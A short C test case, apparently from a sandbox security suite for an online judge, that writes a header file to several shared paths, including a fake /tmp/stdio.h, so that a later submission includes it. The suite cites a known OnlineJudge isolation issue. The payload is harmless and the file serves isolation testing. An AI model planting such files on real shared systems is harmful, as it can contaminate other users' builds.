/* attack: writes a header for the next submission, which includes it
 * expect: AC
 * second: second/includes.c
 * exploit: QingdaoU OnlineJudge issue 165, a file written in one run and included in the next
 */
#include <stdio.h>
int main(void) {
    const char *names[] = {"/tmp/left.h", "/dev/shm/left.h", "/box/left.h", "left.h", "/var/tmp/left.h", "/tmp/stdio.h"};
    for (int i = 0; i < 6; i++) {
        FILE *f = fopen(names[i], "w");
        if (f) fputs("#define LEFT 1\n", f), fclose(f);
    }
    puts("held");
}
